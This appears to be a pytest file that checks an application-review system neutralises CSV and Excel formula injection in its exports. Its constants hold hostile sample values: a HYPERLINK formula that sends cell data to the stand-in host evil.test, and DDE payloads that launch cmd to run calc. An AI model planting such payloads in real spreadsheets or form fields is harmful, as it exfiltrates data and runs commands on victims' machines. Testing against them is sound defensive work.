"""Exports opened in Excel or WPS: applicant text that looks like a formula stays text (SECURITY.md)."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import timedelta

from openpyxl import load_workbook
from sqlalchemy.engine import Engine
from sqlmodel import Session

from review.exports import csv_safe, export_csv, export_xlsx
from tests.test_exports import CFG, DEADLINE, Seeder, engine  # noqa: F401  (engine is a fixture)

EVIL_ORG = '=HYPERLINK("http://evil.test/?d="&B2,"点击查看")'
EVIL_PROJECT = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_CONTACT = "-2+3+cmd|' /C calc'!A0"


def _seed(engine: Engine) -> None:  # noqa: F811
    with Session(engine) as s:
        Seeder(s).application(
            "scenario",
            1,
            at=DEADLINE - timedelta(days=1),
            fields={
                "org_name": EVIL_ORG,
                "project_name": EVIL_PROJECT,
                "contact_name": EVIL_CONTACT,
                "contact_phone": "+86 027-85317173",
                "background": "=1+1",
            },
        )
        s.commit()


def test_xlsx_export_writes_applicant_formulas_as_text(engine: Engine) -> None:  # noqa: F811
    _seed(engine)
    buf = io.BytesIO()
    with Session(engine) as s:
        assert export_xlsx(s, CFG, buf) == 1
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        xml = b"".join(z.read(n) for n in sheets)
    assert b"<f>" not in xml and b"<f " not in xml, "a cell of the export is a formula"
    wb = load_workbook(io.BytesIO(buf.getvalue()))
    values = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row}
    formulas = [c.coordinate for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    # The text is kept exactly as the applicant wrote it.
    assert {EVIL_ORG, EVIL_PROJECT} <= values


def test_csv_export_neutralises_formula_cells_but_not_phone_numbers(engine: Engine) -> None:  # noqa: F811
    _seed(engine)
    with Session(engine) as s:
        data = export_csv(s, CFG)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    cells = [c for row in rows[1:] for c in row]
    assert "'" + EVIL_ORG in cells and "'" + EVIL_PROJECT in cells
    assert not any(c.startswith(("=", "@")) for c in cells)
    assert not any(c.startswith(("+", "-")) and "cmd" in c for c in cells)
    assert csv_safe(EVIL_CONTACT) == "'" + EVIL_CONTACT
    assert csv_safe("+86 027-85317173") == "+86 027-85317173"
    assert csv_safe("-3") == "-3"
    assert csv_safe("\t=1+1") == "'\t=1+1"
    assert csv_safe("武汉单位有限公司") == "武汉单位有限公司"
    assert csv_safe(5) == 5
